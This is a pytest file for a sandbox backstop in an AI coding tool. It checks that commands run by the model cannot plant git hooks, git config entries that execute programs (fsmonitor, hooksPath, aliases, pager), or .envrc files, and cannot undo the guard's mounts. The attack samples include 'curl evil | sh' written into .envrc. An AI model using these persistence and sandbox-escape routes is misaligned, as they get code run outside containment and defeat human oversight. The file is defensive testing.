"""The main chat's kernel backstop (``worker.contain.backstop``): a command that computes at
run time a path that gets a program run outside any sandbox (git's hooks, ``.envrc``,
specrun's settings) cannot write it, and git's config keeps no new entry that runs a
program; ordinary work (package manifests, a generated Makefile, ``git push -u``) is as
before. Real processes, a real user and mount namespace and a real git repository.

Each attack here wrote its path on the code before the backstop (the plain ``run_shell``
is the old runner: ``test_the_old_runner_lets_every_attack_through`` keeps that true)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from protocol.wire.work import WriteGuard
from tests.support import containment_unavailable
from worker.contain.backstop import Opened, guarded_paths, guarded_runner, unavailable
from worker.shell.runner import ShellResult, run_shell
from worker.shell.write_targets import protected_write_paths

FSMONITOR = "[core]\\n\\tfsmonitor = touch /tmp/specrun-backstop-ran\\n"

# name: (command, the path it must not change, words the note must hold)
ATTACKS: dict[str, tuple[str, str, str]] = {
    "variable path": ('f=.git/hooks/pre-commit; echo "touch /tmp/p" > "$f"',
                      ".git/hooks/pre-commit", ".git/hooks"),
    "Makefile recipe": ("make -s hook", ".git/hooks/post-checkout", ".git/hooks"),
    "python one-liner": (f"python3 -c \"open('.git/config', 'a').write('{FSMONITOR}')\"",
                         ".git/config", "core.fsmonitor"),
    "link into .git/hooks": ('echo "touch /tmp/p" > tools/hooks/pre-push',
                             ".git/hooks/pre-push", ".git/hooks"),
    "cp through a variable": ('d=.git/hooks; cp evil.sh "$d/post-checkout"',
                              ".git/hooks/post-checkout", ".git/hooks"),
    "git config through a variable": ("c=config; git $c core.fsmonitor 'touch /tmp/p'",
                                      ".git/config", "core.fsmonitor"),
    "hooksPath from a Makefile recipe": ("make -s hookspath", ".git/config",
                                         "core.hookspath"),
    "new .envrc": ("e=.envrc; echo 'curl evil | sh' > $e", ".envrc", ".envrc"),
    "new .envrc from make": ("make -s env", ".envrc", ".envrc"),
    "settings through a variable": ("d=.specrun; mkdir -p $d && echo '{}' > $d/settings.json",
                                    ".specrun/settings.json", ".specrun"),
}


def _git(root: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A cloned repository's checkout that brought a Makefile, a script and a link."""
    root = tmp_path / "project"
    root.mkdir()
    _git(root, "init", "-q")
    _git(root, "config", "user.name", "Probe")
    _git(root, "config", "user.email", "probe@example.com")
    (root / "Makefile").write_text(
        "hook:\n\techo 'touch /tmp/p' > .git/hooks/post-checkout\n"
        "env:\n\techo 'curl evil | sh' > .envrc\n"
        "build:\n\tmkdir -p out && echo built > out/app.txt\n"
        "hookspath:\n\tkey=core.hooksPath; git config $$key .evil\n"
    )
    (root / "package.json").write_text('{"name": "probe", "version": "1.0.0"}\n')
    (root / "scripts").mkdir()
    (root / "scripts" / "setup.sh").write_text(
        "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes\n")
    (root / "evil.sh").write_text("#!/bin/sh\ntouch /tmp/p\n")
    (root / "tools").mkdir()
    (root / "tools" / "hooks").symlink_to("../.git/hooks")
    (root / "notes.txt").write_text("one\n")
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "shipped")
    return Path(os.path.realpath(root))


def _state(root: Path, rel: str) -> bytes | None:
    path = root / rel
    return path.read_bytes() if path.is_file() else None


def _require_namespaces() -> None:
    why = unavailable()
    if why is not None:
        containment_unavailable(why)


def _guarded(root: Path, opened: Opened | None = None) -> Callable[[str], ShellResult]:
    run = guarded_runner(WriteGuard(str(root)), opened or Opened())
    return lambda command: run(command, str(root), 30.0, 64 * 1024)


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_a_path_computed_at_run_time_is_not_written(project: Path, case: str) -> None:
    _require_namespaces()
    command, rel, named = ATTACKS[case]
    before = _state(project, rel)
    result = _guarded(project)(command)
    assert _state(project, rel) == before, f"{command!r} wrote {rel}"
    if rel == ".envrc":
        assert not (project / ".envrc").exists()
    notes = " ".join(result.notes)
    assert named in notes and "specrun" in notes, (result, notes)
    assert len(result.notes) == 1, result.notes  # one sentence, naming the path


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_the_old_runner_lets_every_attack_through(project: Path, case: str) -> None:
    # The attacks are real: without the backstop each one writes its path.
    command, rel, _ = ATTACKS[case]
    before = _state(project, rel)
    run_shell(command, str(project), 30.0, 64 * 1024)
    assert _state(project, rel) != before


def test_the_refusal_is_the_commands_own_error_with_one_sentence_naming_the_path(
    project: Path,
) -> None:
    _require_namespaces()
    result = _guarded(project)('f=.git/hooks/pre-commit; echo x > "$f"')
    assert result.exit_code == 1
    assert "Read-only file system" in result.stderr
    [note] = result.notes
    assert note.startswith("specrun kept this command from writing .git/hooks: ")
    assert "asks you first" in note


def test_git_add_commit_status_and_ordinary_writes_work_as_before(project: Path) -> None:
    _require_namespaces()
    run = _guarded(project)
    result = run("echo two >> notes.txt && sed -i s/one/uno/ notes.txt && echo new > new.txt"
                 " && make -s build && git add -A && git commit -qm work && git status"
                 " --porcelain && git log --format=%s -1 && pwd && id -u")
    assert result.exit_code == 0, result
    assert result.stdout.splitlines() == ["work", str(project), str(os.getuid())]
    assert (project / "notes.txt").read_text() == "uno\ntwo\n"
    assert (project / "out" / "app.txt").read_text() == "built\n"
    assert result.notes == ()
    # exit codes and output pass through unchanged
    failed = run("echo out; echo err >&2; exit 7")
    assert (failed.exit_code, failed.stdout, failed.stderr) == (7, "out\n", "err\n")


def test_the_environment_is_the_callers(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _require_namespaces()
    monkeypatch.setenv("SPECRUN_BACKSTOP_PROBE", "kept")
    result = _guarded(project)("echo $SPECRUN_BACKSTOP_PROBE")
    assert result.stdout == "kept\n"


def test_a_yes_to_a_named_path_opens_that_path_only(project: Path) -> None:
    _require_namespaces()
    command = 'echo "touch /tmp/p" > .git/hooks/pre-commit; f=.envrc; echo x > $f'
    guard = WriteGuard(str(project))
    paths, everything = protected_write_paths(command, guard)
    assert not everything
    result = _guarded(project, Opened(paths, everything))(command)
    assert (project / ".git" / "hooks" / "pre-commit").read_text() == "touch /tmp/p\n"
    assert not (project / ".envrc").exists(), result  # not what the yes was about
    assert ".envrc" in " ".join(result.notes)


def test_a_yes_to_git_config_opens_the_repositorys_config(project: Path) -> None:
    _require_namespaces()
    command = "git config core.hooksPath .githooks"
    paths, everything = protected_write_paths(command, WriteGuard(str(project)))
    result = _guarded(project, Opened(paths, everything))(command)
    assert result.exit_code == 0, result
    assert "hooksPath = .githooks" in (project / ".git" / "config").read_text()
    assert result.notes == ()


def test_a_worktree_keeps_its_common_config_and_its_pointer(project: Path, tmp_path: Path) -> None:
    _require_namespaces()
    tree = tmp_path / "tree"
    _git(project, "worktree", "add", "-q", str(tree))
    tree = Path(os.path.realpath(tree))
    planned = guarded_paths(WriteGuard(str(tree)))
    assert str(tree / ".git") in planned.read_only
    assert str(project / ".git" / "hooks") in planned.read_only
    assert str(project / ".git" / "config") in [c.path for c in planned.configs]
    before = (project / ".git" / "config").read_bytes()
    run = guarded_runner(WriteGuard(str(tree)))
    result = run("c=config; git $c core.fsmonitor x; echo 'gitdir: /tmp' > .git; echo ok > f && "
                 "git add f && git commit -qm w && echo done", str(tree), 30.0, 4096)
    assert (project / ".git" / "config").read_bytes() == before
    pointer = (tree / ".git").read_text()
    assert pointer.startswith("gitdir: ") and pointer != "gitdir: /tmp\n"
    assert result.stdout.endswith("done\n"), result
    assert "core.fsmonitor" in " ".join(result.notes)


def test_a_replaced_protected_link_is_put_back(project: Path) -> None:
    _require_namespaces()
    (project / ".envrc").symlink_to("notes.txt")
    result = _guarded(project)("rm .envrc; echo 'curl evil | sh' > .envrc")
    assert os.readlink(project / ".envrc") == "notes.txt"
    assert (project / "notes.txt").read_text() == "one\n"
    assert ".envrc" in " ".join(result.notes)


def test_nothing_is_mounted_outside_the_command(project: Path) -> None:
    _require_namespaces()
    _guarded(project)("true")
    mounts = Path("/proc/self/mountinfo").read_text()
    assert str(project) not in mounts


_WITHOUT_NAMESPACES = """
import json, sys
from protocol.wire.work import WriteGuard
from worker.contain.backstop import guarded_runner
run = guarded_runner(WriteGuard(sys.argv[1]))
results = [run(c, sys.argv[1], 30.0, 4096) for c in ("echo one > a.txt", "echo two > b.txt")]
print(json.dumps([[r.exit_code, list(r.notes)] for r in results]))
"""


def test_without_user_namespaces_commands_run_as_before_and_it_says_so_once(
    project: Path,
) -> None:
    # A user namespace of the test's own with no room for another one, and no
    # CAP_SYS_ADMIN for a mount namespace alone: the backstop's namespace is refused there
    # as on a machine without them.
    _require_namespaces()
    if shutil.which("unshare") is None or shutil.which("setpriv") is None:
        containment_unavailable("util-linux unshare(1) or setpriv(1) is not installed")
    script = ("echo 0 > /proc/sys/user/max_user_namespaces && exec setpriv --bounding-set "
              '-sys_admin --inh-caps -sys_admin "$0" -c "$1" "$2"')
    done = subprocess.run(
        ["unshare", "--user", "--map-root-user", "sh", "-c", script, sys.executable,
         _WITHOUT_NAMESPACES, str(project)],
        capture_output=True, text=True, timeout=60, cwd=Path(__file__).resolve().parents[2],
    )
    assert done.returncode == 0, done.stderr
    (first_code, first_notes), (second_code, second_notes) = json.loads(done.stdout)
    assert (first_code, second_code) == (0, 0)
    assert (project / "a.txt").read_text() == "one\n" and (project / "b.txt").exists()
    [said] = first_notes
    assert "could not keep" in said and "not available" in said
    assert second_notes == []


def test_an_envrc_made_between_commands_is_held_by_the_next_one(project: Path) -> None:
    # The plan reuses its last walk while no listed directory changed: a new entry changes
    # its directory, so the next command's plan finds it.
    _require_namespaces()
    guard = WriteGuard(str(project))
    assert str(project / "tools" / ".envrc") not in guarded_paths(guard).read_only
    (project / "tools" / ".envrc").write_text("export A=1\n")
    assert str(project / "tools" / ".envrc") in guarded_paths(guard).read_only
    result = _guarded(project)("c=tools/.envrc; echo 'curl evil | sh' >> $c")
    assert (project / "tools" / ".envrc").read_text() == "export A=1\n"
    assert "tools/.envrc" in " ".join(result.notes)


def test_a_protected_paths_pattern_is_held_below_the_root(project: Path) -> None:
    # The walk remains for the person's own protectedPaths: a pattern can match deeper.
    _require_namespaces()
    (project / "deploy" / "keys").mkdir(parents=True)
    (project / "deploy" / "keys" / "id").write_text("secret\n")
    run = guarded_runner(WriteGuard(str(project), protected=("keys/",)))
    result = run("d=deploy/keys; echo x > $d/id; echo y > $d/new", str(project), 30.0, 4096)
    assert (project / "deploy" / "keys" / "id").read_text() == "secret\n"
    assert not (project / "deploy" / "keys" / "new").exists()
    assert "deploy/keys" in " ".join(result.notes), result


def test_git_init_in_a_project_without_a_repository_is_kept(tmp_path: Path) -> None:
    _require_namespaces()
    root = tmp_path / "tarball"
    root.mkdir()
    (root / "main.py").write_text("print(1)\n")
    result = _guarded(Path(os.path.realpath(root)))("git init -q && git status --short")
    assert result.exit_code == 0, result
    assert (root / ".git" / "HEAD").is_file() and result.notes == ()


def test_hooks_that_are_a_link_are_held_where_the_link_leads(project: Path) -> None:
    # A tarball can bring a .git whose hooks directory is a link into the project.
    _require_namespaces()
    hooks = project / ".git" / "hooks"
    for entry in hooks.iterdir():
        entry.unlink()
    hooks.rmdir()
    (project / "githooks").mkdir()
    hooks.symlink_to("../githooks")
    result = _guarded(project)('d=githooks; echo "touch /tmp/p" > $d/pre-commit')
    assert not (project / "githooks" / "pre-commit").exists(), result
    assert "githooks" in " ".join(result.notes)


_IN_A_USER_NAMESPACE = """
import json, sys
from protocol.wire.work import WriteGuard
from worker.contain.backstop import guarded_runner, unavailable
run = guarded_runner(WriteGuard(sys.argv[1]))
results = [run(c, sys.argv[1], 30.0, 4096) for c in (
    'f=.git/hooks/pre-commit; echo "touch /tmp/p" > "$f"',
    "echo ok > made.txt && git add made.txt && git commit -qm m && cat /proc/self/uid_map")]
print(json.dumps([unavailable(), [[r.exit_code, r.stdout, list(r.notes)] for r in results]]))
"""


def test_root_without_cap_sys_admin_is_held_through_a_user_namespace(project: Path) -> None:
    # Root that may mount gets a mount namespace alone (the other tests, as root); root in a
    # container without CAP_SYS_ADMIN, and every other user, get it in a user namespace.
    _require_namespaces()
    if os.geteuid() != 0:
        pytest.skip("not root: every other test here already runs as an ordinary user")
    if shutil.which("setpriv") is None:
        containment_unavailable("util-linux setpriv(1) is not installed")
    done = subprocess.run(
        ["setpriv", "--bounding-set", "-sys_admin", "--inh-caps", "-sys_admin",
         sys.executable, "-c", _IN_A_USER_NAMESPACE, str(project)],
        capture_output=True, text=True, timeout=60, cwd=Path(__file__).resolve().parents[2],
    )
    assert done.returncode == 0, done.stderr
    why, ((attack_code, _, attack_notes), (work_code, uid_map, work_notes)) = json.loads(
        done.stdout)
    assert why is None
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert attack_code == 1 and ".git/hooks" in " ".join(attack_notes)
    assert work_code == 0 and work_notes == [] and (project / "made.txt").exists()
    assert uid_map.split() == ["0", "0", "1"]  # a user namespace of its own


def test_the_command_cannot_undo_its_mounts(project: Path) -> None:
    _require_namespaces()
    hooks = project / ".git" / "hooks"
    result = _guarded(project)(
        f"umount {hooks}; mount -o remount,rw {hooks}; mount --bind /tmp {hooks}; "
        f"unshare -Um sh -c 'umount {hooks}; echo x > {hooks}/pre-commit'; "
        f"echo x > {hooks}/pre-commit; grep CapEff /proc/self/status")
    assert not (hooks / "pre-commit").exists(), result
    effective = int(result.stdout.split()[-1], 16)
    assert not effective & (1 << 21)  # CAP_SYS_ADMIN


# Daily work that writes what runs later or git's config: each was refused or undone by the
# backstop when it held the runs-later files and .git/config read-only. name: (command,
# path, what it must hold afterwards)
DAILY_WORK: dict[str, tuple[str, str, str]] = {
    "an npm install-like manifest edit": (
        "python3 -c \"import json, os; d = json.load(open('package.json')); "
        "d['dependencies'] = {'left-pad': '^1.3.0'}; json.dump(d, open('p.tmp', 'w')); "
        "os.replace('p.tmp', 'package.json')\"", "package.json", "left-pad"),
    "a ./configure-like Makefile": (
        "rm Makefile && printf 'all:\\n\\techo configured\\n' > Makefile && make -s",
        "Makefile", "configured"),
    "a cargo init-like new manifest": (
        "printf '[package]\\nname = \"probe\"\\n' > Cargo.toml", "Cargo.toml", "probe"),
    "git lfs track-like attributes": ("a=.gitattributes; echo '*.bin binary' >> $a",
                                      ".gitattributes", "*.bin binary"),
    "an exclude of one's own": ("x=.git/info/exclude; echo '*.log' >> $x",
                                ".git/info/exclude", "*.log"),
    "a remote and a user of one's own": (
        "git remote add upstream https://example.com/probe.git && k=user.name; "
        "git config $k Other", ".git/config", "https://example.com/probe.git"),
}


@pytest.mark.parametrize("case", sorted(DAILY_WORK))
def test_daily_work_writes_what_runs_later_and_is_kept(project: Path, case: str) -> None:
    _require_namespaces()
    command, rel, holds = DAILY_WORK[case]
    result = _guarded(project)(command)
    assert result.exit_code == 0, result
    assert holds in (project / rel).read_text(), result
    assert result.notes == ()


@pytest.mark.parametrize("tool", ["npm", "cmake", "cargo"])
def test_real_package_and_build_tools_write_their_files(project: Path, tool: str) -> None:
    _require_namespaces()
    if shutil.which(tool) is None:
        pytest.skip(f"{tool} is not installed")
    command, rel, holds = {
        "npm": ("npm pkg set dependencies.left-pad=^1.3.0", "package.json", "left-pad"),
        "cmake": ("rm Makefile && printf 'project(probe NONE)\\n' > CMakeLists.txt && "
                  "cmake -S . -B . > /dev/null", "Makefile", "CMake"),
        "cargo": ("cargo init -q --vcs none --name probe", "Cargo.toml", "probe"),
    }[tool]
    result = _guarded(project)(command)
    assert result.exit_code == 0, result
    assert holds in (project / rel).read_text(), result
    assert result.notes == ()


def _git_out(root: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True,
                          text=True).stdout.strip()


def test_git_push_u_and_a_tracking_branch_keep_their_config(
    project: Path, tmp_path: Path,
) -> None:
    _require_namespaces()
    bare = tmp_path / "origin.git"
    _git(tmp_path, "init", "-q", "--bare", str(bare))
    _git(project, "remote", "add", "origin", str(bare))
    branch = _git_out(project, "symbolic-ref", "--short", "HEAD")
    run = _guarded(project)
    pushed = run("git push -q -u origin HEAD")
    assert pushed.exit_code == 0 and pushed.notes == (), pushed
    assert _git_out(project, "config", f"branch.{branch}.remote") == "origin"
    tracked = run(f"git checkout -q -b feat origin/{branch} && git branch -q -d {branch}")
    assert tracked.exit_code == 0 and tracked.notes == (), tracked
    assert _git_out(project, "config", "branch.feat.merge") == f"refs/heads/{branch}"
    assert "could not" not in pushed.stderr + tracked.stderr


# A change to git's config that makes git run a program: undone, the key named.
# name: (command, words the note must hold)
VETTED: dict[str, tuple[str, str]] = {
    "an alias through a variable": ("c=alias.st; git config $c '!touch /tmp/p'", "alias.st"),
    "a line git cannot read": ("f=.git/config; printf '[core\\n' >> $f", "unreadable"),
    "a link to a file the model can edit": ("f=.git/config; cp $f cfg.txt && ln -sf ../cfg.txt $f",
                                            "a link"),
    "a hooksPath among benign keys": (
        "git remote add up https://example.com/x.git; git config core.hooksPath .evil",
        "core.hookspath"),
}


@pytest.mark.parametrize("case", sorted(VETTED))
def test_a_config_change_that_runs_a_program_is_put_back_naming_the_key(
    project: Path, case: str,
) -> None:
    _require_namespaces()
    command, words = VETTED[case]
    config = project / ".git" / "config"
    config.chmod(0o600)
    before = config.read_bytes()
    result = _guarded(project)(command)
    assert not config.is_symlink() and config.read_bytes() == before, result
    assert config.stat().st_mode & 0o777 == 0o600
    [note] = result.notes
    assert note.startswith("specrun put .git/config back as it was: this command ")
    assert words in note and note.count(".") <= 6, note  # one sentence
    assert not [p.name for p in config.parent.iterdir() if "specrun" in p.name]


def test_a_new_config_worktree_that_runs_a_program_is_removed(project: Path) -> None:
    _require_namespaces()
    result = _guarded(project)("f=.git/config.worktree; printf '[core]\\n\\tpager = evil\\n' > $f")
    assert not (project / ".git" / "config.worktree").exists()
    assert "core.pager" in " ".join(result.notes) and len(result.notes) == 1, result


def test_a_repositorys_own_alias_is_not_undone_by_a_benign_change(project: Path) -> None:
    # Only entries that are new or changed count: the rest is the read-only git check's.
    _require_namespaces()
    _git(project, "config", "alias.co", "checkout")
    result = _guarded(project)("k=user.email; git config $k other@example.com")
    assert result.notes == ()
    assert _git_out(project, "config", "user.email") == "other@example.com"


def test_the_git_directory_cannot_be_moved_aside_to_plant_new_hooks(project: Path) -> None:
    # A hooks directory no mount holds would be one in a new .git (or a new project
    # directory) made where the old one was moved away.
    _require_namespaces()
    result = _guarded(project)(
        "d=.git; mv $d .git-old; mkdir -p $d/hooks; echo 'touch /tmp/p' > $d/hooks/pre-commit; "
        "c=$(pwd); cd ..; mv $c $c-old; mkdir -p $c/.git/hooks; echo x > $c/.git/hooks/pre-commit")
    assert not (project / ".git" / "hooks" / "pre-commit").exists(), result
    assert not (project / ".git-old").exists() and not Path(f"{project}-old").exists()
    assert _git_out(project, "log", "--format=%s") == "shipped"
    assert "specrun kept this command from writing .git:" in " ".join(result.notes), result


def test_a_hooks_link_pointed_elsewhere_is_put_back(project: Path) -> None:
    _require_namespaces()
    hooks = project / ".git" / "hooks"
    shutil.rmtree(hooks)
    (project / "githooks").mkdir()
    hooks.symlink_to("../githooks")
    (project / "evil").mkdir()
    (project / "evil" / "pre-commit").write_text("touch /tmp/p\n")
    result = _guarded(project)("h=.git/hooks; ln -sfn ../evil $h")
    assert os.readlink(hooks) == "../githooks", result
    assert ".git/hooks" in " ".join(result.notes)
